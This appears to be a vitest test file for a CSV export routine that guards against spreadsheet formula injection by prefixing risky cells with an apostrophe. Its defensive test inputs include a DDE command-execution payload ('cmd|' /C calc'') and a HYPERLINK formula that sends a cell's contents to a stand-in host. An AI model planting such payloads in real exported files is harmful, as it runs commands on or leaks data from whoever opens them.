import * as fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import type { FlatCell } from "@/lib/run/table";
import { csvText } from "@/lib/server/csv";

const read = (text: string) => Papa.parse<string[]>(text.slice(1), { newline: "\r\n" }).data;
const oneRow = (cells: FlatCell[]) =>
  csvText(
    cells.map((_, index) => `c${index}`),
    [cells],
  );

describe("a cell that a spreadsheet would run", () => {
  const hostile = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\ttext",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "\u200b=1",
    "\ufeff=1",
    "\u0000=1",
    '"=1',
    "'=1",
    "' \"=1",
    "“=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    " ＝1",
    "−2+3",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"click")',
  ];
  for (const text of hostile) {
    test(`${JSON.stringify(text)} begins with an apostrophe`, () => {
      const [cell = "", next] = read(csvText(["a", "b"], [[text, "x"]]))[1] ?? [];
      expect([cell[0], next]).toEqual(["'", "x"]);
      expect(cell.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
    });
  }

  test.each([
    ["a;=cmd|'/C calc'!A0", "a;'=cmd|'/C calc'!A0"],
    ["a\t=1+1", "a\t'=1+1"],
    ['a; "+1', "a; \"'+1"],
    ["a\n=1", "a\n'=1"],
    ["a;b;＝1", "a;b;'＝1"],
  ])("that a spreadsheet would cut out of %j is guarded there", (text, guarded) => {
    expect(read(csvText(["a"], [[text]]))[1]).toEqual([guarded]);
  });

  test("in the head of a column is guarded too", () => {
    expect(csvText(["=cmd", "ok"], [])).toBe('\uFEFF"\'=cmd",ok\r\n');
  });
});

test("what is harmless stays as it is: numbers, signs within, JSON, text", () => {
  const cells = [-5, 1e21, 0.1, true, false, "a-b", "a=b", "{}", '{"a":"=1"}', "12", "", null];
  expect(oneRow(cells).split("\r\n")[1]).toBe(
    '-5,1e+21,0.1,true,false,a-b,a=b,{},"{""a"":""=1""}",12,,',
  );
});

test("separators, quotes and line breaks stay within their cell", () => {
  const texts = ['a,"b"', "a\nb", "a\rb", "a\r\nb", ";", " lead", "trail "];
  expect(read(oneRow(texts))[1]).toEqual(texts);
});

test("whatever the texts are, they come back, and none begins with a sign", () => {
  const text = fc.string({ unit: "grapheme", maxLength: 12 });
  fc.assert(
    fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), (cells) => {
      const rows = read(csvText(["a", "b"], cells)).slice(1, -1);
      expect(rows.map((row) => row.length)).toEqual(cells.map(() => 2));
      rows.flat().forEach((cell, index) => {
        const given = cells.flat()[index] ?? "";
        expect([given, `'${given}`]).toContain(cell);
        expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
      });
    }),
  );
});
